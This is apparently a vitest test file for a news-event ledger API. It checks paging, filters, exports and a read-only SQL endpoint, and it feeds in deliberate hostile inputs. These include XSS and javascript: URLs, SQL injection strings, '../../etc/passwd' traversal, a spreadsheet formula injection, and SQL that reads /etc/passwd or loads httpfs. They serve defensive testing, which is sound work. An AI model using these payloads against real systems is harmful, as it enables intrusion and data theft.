/** The routes that answer from a ledger, over HTTP, each answer held against what the OpenAPI document says of it. */
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { z } from '@hono/zod-openapi'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Ledger } from '../ledger/index.ts'
import { openSampleLedger } from './sample-ledger.ts'
import { openSampleServer, type SampleServer } from './sample-server.ts'
import * as told from './schemas.ts'

const hostileTitle = `<img src=x onerror=alert(1)>'; drop table events; -- \u202etxt.exe \u{1f602}`
const hostile = {
  id: '../../etc/passwd',
  title: hostileTitle,
  source: `<script>alert("source")</script>`,
  url: 'javascript:alert(document.cookie)',
  date: '2022-04-06',
  text: `France \u{1f602} expelled 35 Russian diplomats on Monday. "They <b>must</b> leave," said the minister <script>alert(1)</script>. Germany, '; drop table events; --, condemned Russia on Tuesday.`,
}

const formula = {
  title: '=HYPERLINK("http://example.org/?"&A1,"open")',
  source: 'Example Formula',
  text: 'Norway expelled a Russian diplomat on Monday.',
}

const folder = mkdtempSync(join(tmpdir(), 'chancery-records-'))
let ledger: Ledger
let server: SampleServer
beforeAll(async () => {
  const bytes = new TextEncoder().encode(`${JSON.stringify(hostile)}\n${JSON.stringify(formula)}\n`)
  ledger = await openSampleLedger(join(folder, 'news.duckdb'), [{ name: 'hostile.jsonl', bytes }])
  server = await openSampleServer(ledger)
}, 120_000)
afterAll(async () => {
  await server.close()
  await ledger.close()
  rmSync(folder, { recursive: true })
  expect(server.faults).toEqual([])
})

/** The answer, which must be what the schema says. */
async function get<S extends z.ZodType>(path: string, schema: S): Promise<z.output<S>> {
  const { status, text } = await server.ask(path)
  expect([status, text.slice(0, status === 200 ? 0 : 500)]).toEqual([200, ''])
  return schema.parse(JSON.parse(text))
}
const problem = async (
  path: string,
): Promise<{ status: number; kind: string; errors?: readonly { path: string }[] }> => {
  const { status, text } = await server.ask(path)
  const { type, errors } = told.problem.parse(JSON.parse(text))
  return { status, kind: type.replace('/docs#problem-', ''), errors }
}

const events = told.pageOf(told.eventRow)
const eventsAt = (query: string): Promise<z.output<typeof events>> => get(`/api/events?${query}`, events)

describe('lists', () => {
  test('every event opens its sentence, and its report holds that sentence at its place', async () => {
    const { items, total } = await eventsAt('limit=500&by=mention')
    expect(items).toHaveLength(total)
    const opened = new Map<string, told.ReportOpened>()
    for (const { report } of items)
      if (!opened.has(report.id)) opened.set(report.id, await get(`/api/reports/${report.id}`, told.reportOpened))
    for (const { id, report, sentence, predicate } of items) {
      const text = opened.get(report.id)?.record.text ?? ''
      expect(text.slice(...sentence.span)).toBe(sentence.text)
      expect(predicate[0], id).toBeGreaterThanOrEqual(sentence.span[0])
      expect(predicate[1], id).toBeLessThanOrEqual(sentence.span[1])
    }
  })

  test.each(['events', 'statements', 'links', 'sentences', 'reports', 'actors'] as const)(
    'pages of %s give each row once, in one order, and end',
    async list => {
      const one = (row: unknown): string => JSON.stringify(row)
      const text = list === 'sentences' ? '&text=the' : ''
      const whole = JSON.parse((await server.ask(`/api/${list}?limit=500${text}`)).text) as told.Page<unknown>
      const rows: unknown[] = []
      let cursor: string | null = ''
      for (let pages = 0; cursor !== null; pages++) {
        expect(pages).toBeLessThan(100)
        const path: string = `/api/${list}?limit=7${text}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`
        const page = JSON.parse((await server.ask(path)).text) as told.Page<unknown>
        expect(page.total).toBe(whole.total)
        rows.push(...page.items)
        cursor = page.next
      }
      expect(rows.map(one)).toEqual(whole.items.map(one))
      expect(new Set(rows.map(one)).size).toBe(whole.total)
    },
  )

  test('filters fit all at once', async () => {
    const { items, total } = await eventsAt('actor=USA&quad=verbal-conflict&from=2023-01-01&confidence=0.2')
    expect(total).toBeGreaterThan(0)
    for (const { actors, quad, date, confidence } of items) {
      expect(actors.map(({ code }) => code)).toContain('USA')
      expect(quad).toBe('verbal conflict')
      expect(String(date.value) >= '2023-01-01').toBe(true)
      expect(confidence).toBeGreaterThanOrEqual(0.2)
    }
  })

  test('words of a search are marked where they stand', async () => {
    const { items } = await get('/api/search?q=sanctions', told.search)
    expect(items.length).toBeGreaterThan(0)
    for (const { text, hits } of items)
      for (const hit of hits) expect(text.slice(...hit).toLowerCase()).toBe('sanctions')
  })

  test('actors and reports are found by what they are called', async () => {
    const { actors, reports } = await get('/api/search?q=united%20kin', told.search)
    expect(actors.map(({ code }) => code)).toEqual(['GBR'])
    expect(reports).toEqual([])
    expect((await get('/api/search?q=Gaza%20resolution', told.search)).reports).toHaveLength(1)
  })
})

describe('numbers open what they count', () => {
  test('what a side does and what is done to it', async () => {
    const { does, receives, says, types } = await get('/api/actors/RUS', told.actorProfile)
    expect((await eventsAt('status=asserted&actor=RUS')).total).toBe(does)
    expect((await eventsAt('status=asserted&recipient=RUS')).total).toBe(receives)
    expect((await get('/api/statements?actor=RUS', told.pageOf(told.statementRow))).total).toBe(says)
    expect(types.reduce((sum, type) => sum + type.does, 0)).toBe(does)
    expect(types.reduce((sum, type) => sum + type.receives, 0)).toBe(receives)
    for (const { type, does } of types)
      expect((await eventsAt(`status=asserted&actor=RUS&type=${type}`)).total).toBe(does)
  })

  test('dyads and their series', async () => {
    const { items } = await get('/api/dyads?limit=5', told.pageOf(told.dyadRow))
    for (const { actor, recipient, total } of items) {
      const series = await get(`/api/dyads/${actor}/${recipient}?unit=year`, told.dyadSeries)
      const counted = series.points
        .flatMap(({ counts }) => Object.values(counts))
        .reduce((sum, n) => sum + n, series.undated)
      expect(counted).toBe(total)
      expect((await eventsAt(`actor=${actor}&recipient=${recipient}&status=asserted`)).total).toBe(total)
    }
  })

  test('the ledger says how much it holds', async () => {
    const { counts, sources, ledger } = await get('/api/meta', told.meta)
    expect(ledger).toBe('news.duckdb')
    expect(counts.reports).toBe(sources.reduce((sum, source) => sum + source.reports, 0))
    expect(counts.events).toBe((await eventsAt('by=mention')).total)
  })
})

describe('files', () => {
  const lists = ['events', 'statements', 'links', 'reports', 'sentences', 'corrections', 'sources', 'actors']
  test.each(lists)('%s: every row of the list, in all three forms', async list => {
    const totalOf = async (): Promise<number> => JSON.parse((await server.ask(`/api/${list}?limit=500`)).text).total
    const total = list === 'sources' ? JSON.parse((await server.ask('/api/sources')).text).total : await totalOf()
    const [csv, json, jsonl] = await Promise.all(
      ['csv', 'json', 'jsonl'].map(form => server.ask(`/api/export/${list}.${form}`)),
    )
    expect(csv.headers['content-disposition']).toBe(`attachment; filename="chancery-0.0.0-${list}.csv"`)
    expect(csv.text === '' ? 0 : csv.text.trimEnd().split('\n').length - 1).toBe(total)
    expect(JSON.parse(json.text)).toMatchObject({ about: { cite: `Chancery 0.0.0, table ${list}` } })
    expect(JSON.parse(json.text).items).toHaveLength(total)
    expect(
      jsonl.text
        .split('\n')
        .filter(Boolean)
        .map(line => JSON.parse(line)),
    ).toEqual(JSON.parse(json.text).items)
  })

  test('only what was asked for', async () => {
    const { text } = await server.ask('/api/export/events.json?actor=USA&actor=RUS&type=SANCTION,ACCUSE')
    const { items, about } = JSON.parse(text) as { items: told.EventRow[]; about: { query: unknown } }
    expect(about.query).toEqual({ actor: ['USA', 'RUS'], type: 'SANCTION,ACCUSE' })
    expect(items).toHaveLength((await eventsAt('actor=USA,RUS&type=SANCTION,ACCUSE')).total)
  })

  test('words of a report are no formula', async () => {
    const { text } = await server.ask(`/api/export/reports.csv?source=${encodeURIComponent(formula.source)}`)
    expect(text.split('\n')[1]).toContain(`,"'${formula.title.replaceAll('"', '""')}",`)
  })

  test.each(['events.csv?type=HUG', 'events.csv?actr=USA', 'quality.csv?x=1', 'dyads.json?unit=day'])(
    '%s',
    async file => {
      expect(await problem(`/api/export/${file}`)).toMatchObject({ status: 400, kind: 'wrong-request' })
    },
  )
  test.each([
    'events',
    'events.exe',
    'runs.csv',
    'events.csv.gz',
    '..%2fledger.csv',
    '__proto__.csv',
    'events.constructor',
  ])('%s', async file => {
    expect(await problem(`/api/export/${file}`)).toMatchObject({ status: 404, kind: 'not-found' })
  })
})

describe('SQL', () => {
  const ask = (sql: string, limit?: number) => server.post('/api/sql', { sql, ...(limit ? { limit } : {}) })
  test('one SELECT is answered, as many rows as were asked for', async () => {
    const reply = await ask('select type, count(*) as n from events_v group by type order by n desc', 2)
    const answer = told.sqlAnswer.parse(JSON.parse(reply.text))
    expect(answer.columns.map(({ name }) => name)).toEqual(['type', 'n'])
    expect([answer.rows.length, answer.more]).toEqual([2, true])
  })
  test.each([
    'drop table events',
    'select 1; drop table events',
    'insert into codes values (1, $$x$$)',
    "copy events to '/tmp/events.csv'",
    "select * from read_text('/etc/passwd')",
    "select * from '/etc/passwd'",
    "attach '/tmp/other.duckdb'",
    'set enable_external_access = true',
    'install httpfs',
    "select * from read_csv('http://127.0.0.1/')",
    'select nothing from nowhere',
    'selec',
    '',
  ])('nothing else: %s', async sql => {
    const reply = await ask(sql)
    expect([reply.status, reply.text.includes('root:')]).toEqual([400, false])
    expect((await eventsAt('')).total).toBeGreaterThan(0)
  })
})

describe('what does not fit is told, never passed over', () => {
  test.each([
    ['/api/events?actr=USA', ''],
    ['/api/events?type=HUG', 'type.0'],
    ['/api/events?from=yesterday', 'from'],
    ['/api/events?confidence=2', 'confidence'],
    ['/api/events?limit=100000', 'limit'],
    ['/api/events?pair=USA', 'pair'],
    ['/api/movers?days=0', 'days'],
    ['/api/dyads/USA/CHN?unit=hour', 'unit'],
    ['/api/reports/etc', 'id'],
  ])('%s', async (path, field) => {
    const { status, kind, errors } = await problem(path)
    expect([status, kind]).toEqual([400, 'wrong-request'])
    expect(errors?.map(error => error.path)).toContain(field)
  })
  test.each(['/api/events?cursor=xx', '/api/statements?cursor=W10', '/api/events?cursor=WyJhIl0'])('%s', async path => {
    expect(await problem(path)).toMatchObject({ status: 400, kind: 'wrong-request' })
  })
  test.each(['/api/reports/0000000000000000', '/api/actors/XXX', '/api/actors/%3Cscript%3E'])('%s', async path => {
    expect(await problem(path)).toMatchObject({ status: 404, kind: 'not-found' })
  })
  test('a side that nobody names has no events', async () => {
    expect(await eventsAt('actor=XXX')).toEqual({ items: [], next: null, total: 0 })
  })
})

describe('hostile words', () => {
  const attacks = [
    `USA' or '1'='1`,
    `USA'); drop table events; --`,
    `USA"; attach '/etc/passwd' as x; --`,
    'USA\u0000',
    '%',
    '$v0',
    `') union select text from reports --`,
  ]
  test.each(attacks)('in a filter are a name that nobody has: %s', async words => {
    const before = (await eventsAt('')).total
    const asked = encodeURIComponent(words)
    for (const name of ['actor', 'recipient', 'source', 'context'])
      expect((await eventsAt(`${name}=${asked.slice(0, 40)}`)).total).toBe(0)
    const search = await get(`/api/search?q=${asked}`, told.search)
    expect(search.reports.every(({ title }) => title?.toLowerCase().includes(words.toLowerCase()))).toBe(true)
    expect((await eventsAt('')).total).toBe(before)
  })

  test('in a report come back as they are and are nothing but text', async () => {
    const { items } = await get(
      `/api/reports?source=${encodeURIComponent(hostile.source)}`,
      told.pageOf(told.reportRow),
    )
    expect(items.map(({ title, externalId }) => [title, externalId])).toEqual([[hostileTitle, hostile.id]])
    const reply = await server.ask(`/api/reports/${items[0].id}`)
    expect(reply.headers['content-type']).toMatch(/^application\/json/)
    const opened = told.reportOpened.parse(JSON.parse(reply.text))
    expect(opened.record.text).toBe(hostile.text)
    expect(opened.events.length).toBeGreaterThan(0)
    for (const { sentence } of opened.events) expect(hostile.text.slice(...sentence.span)).toBe(sentence.text)
  })

  test('an address that is no web address is not given as one', async () => {
    const reply = await server.ask(`/api/reports?source=${encodeURIComponent(hostile.source)}`)
    const [{ url, id }] = told.pageOf(told.reportRow).parse(JSON.parse(reply.text)).items
    expect(url).toBeNull()
    const opened = await get(`/api/reports/${id}`, told.reportOpened)
    expect([opened.report.url, ...opened.events.map(({ report }) => report.url)]).not.toContain(hostile.url)
    expect(opened.record.report.url).toBeNull()
  })
})

test('a record opens with its words, its rule and its version', async () => {
  const [{ id, sentence }] = (await eventsAt('type=SANCTION')).items
  const opened = await get(`/api/records/${id.replace('#', '/')}`, told.recordOpened)
  expect(opened.sentences).toContainEqual(sentence)
  for (const { words } of opened.marks) expect(sentence.text).toContain(words)
  expect(opened.rule).toMatch(/pattern|model/)
  expect(await problem(`/api/records/${id.replace(/#.*/, '/e9999')}`)).toMatchObject({ status: 400 })
})

test('an unchanged answer is not sent again, a changed question is', async () => {
  const first = await server.ask('/api/events?limit=3')
  const again = (path: string) => server.ask(path, { headers: { 'if-none-match': String(first.headers.etag) } })
  expect([(await again('/api/events?limit=3')).status, (await again('/api/events?limit=4')).status]).toEqual([304, 200])
})

test('the OpenAPI document names every route, and the page of it needs nothing from outside', async () => {
  const { paths, openapi } = JSON.parse((await server.ask('/api/openapi.json')).text) as {
    paths: object
    openapi: string
  }
  expect(openapi).toMatch(/^3\.1\./)
  expect(Object.keys(paths)).toEqual(
    expect.arrayContaining(['/api/events', '/api/reports/{id}', '/api/code', '/api/ingest/progress']),
  )
  const { text } = await server.ask('/docs')
  for (const path of Object.keys(paths)) expect(text).toContain(`<code>${path}</code>`)
  expect(text).not.toMatch(/<script|(src|href)="(https?:)?\/\//)
  for (const [, anchor] of text.matchAll(/href="#([^"]+)"/g)) expect(text).toContain(`id="${anchor}"`)
})
